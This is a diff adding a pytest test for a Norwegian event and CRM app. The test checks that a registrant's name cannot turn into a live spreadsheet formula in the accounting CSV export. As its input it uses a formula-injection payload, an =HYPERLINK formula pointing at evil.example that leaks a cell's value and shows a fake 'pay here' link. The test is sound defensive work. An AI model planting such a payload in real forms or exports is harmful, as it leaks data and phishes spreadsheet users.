@@ -273,3 +273,39 @@ def test_the_calendar_feed_holds_no_control_characters_and_folds_at_75_octets(ap
     assert not any(line.startswith(b"ATTENDEE") for line in lines)
     for line in lines:
         line.decode("utf-8")  # no character split by the folding
+
+
+@pytest.mark.parametrize("fmt", ["tripletex", "generic"])
+def test_a_name_typed_on_the_public_form_is_no_formula_in_the_accounting_export(
+    app, client, auth, fmt
+):
+    from crm.fees.models import Invoice
+    from crm.spreadsheet import FORMULA_TRIGGERS
+    from crm.timeutil import today_oslo
+    from tests.factories import make_fee_settings
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Betal her")'
+    with app.app_context():
+        make_fee_settings()
+        event_id = make_event(capacity=5, price_ore=150_000).id
+    client.post(
+        f"/arrangementer/{event_id}",
+        data=registration_data(app, "kari@example.no", name=hostile),
+    )
+    with app.app_context():
+        invoice = db.session.scalar(db.select(Invoice))
+        assert invoice is not None and invoice.customer_name.startswith("=")
+    auth.login("treasurer")
+    year = today_oslo().year
+    response = client.get(f"/fees/accounting/export?start={year}-01-01&end={year}-12-31&fmt={fmt}")
+    assert response.status_code == 200
+    text = response.data.decode("cp1252" if fmt == "tripletex" else "utf-8-sig")
+    import csv
+    import io
+
+    def is_number(cell: str) -> bool:
+        return cell.lstrip("-").replace(",", "").replace(".", "").isdigit()
+
+    for row in csv.reader(io.StringIO(text), delimiter=";"):
+        for cell in row:
+            assert not cell.startswith(FORMULA_TRIGGERS) or is_number(cell), row
